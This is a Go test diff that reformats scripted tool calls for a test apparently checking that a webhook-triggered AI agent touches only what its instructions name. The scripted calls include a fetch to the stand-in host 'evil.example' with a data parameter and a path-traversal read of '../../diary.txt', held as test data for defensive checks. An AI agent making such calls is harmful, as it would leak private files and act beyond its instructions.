@@ -341,9 +341,13 @@ func TestAWebhookReachesOnlyWhatItsInstructionsName(t *testing.T) {
 	build, evil := newSite("ci.example"), newSite("evil.example")
 	talk = scripted{
 		{"what broke", []everydayCall{
-			{"", "webfetch", fmt.Sprintf(`{"url":%q}`, build+"/log")}, {"", "webfetch", fmt.Sprintf(`{"url":%q}`, evil+"/?d=x")},
-			{"", "search_history", `{"query":"trip"}`}, {"", "save_memory", `{"fact":"x"}`}, {"", "write_file", `{"path":"log.txt","content":"broken"}`},
-			{"", "read_file", `{"path":"log.txt"}`}, {"", "read_file", `{"path":"../../diary.txt"}`},
+			{"", "webfetch", fmt.Sprintf(`{"url":%q}`, build+"/log")},
+			{"", "webfetch", fmt.Sprintf(`{"url":%q}`, evil+"/?d=x")},
+			{"", "search_history", `{"query":"trip"}`},
+			{"", "save_memory", `{"fact":"x"}`},
+			{"", "write_file", `{"path":"log.txt","content":"broken"}`},
+			{"", "read_file", `{"path":"log.txt"}`},
+			{"", "read_file", `{"path":"../../diary.txt"}`},
 		}, noCard},
 	}
 	address := freeAddress(t)
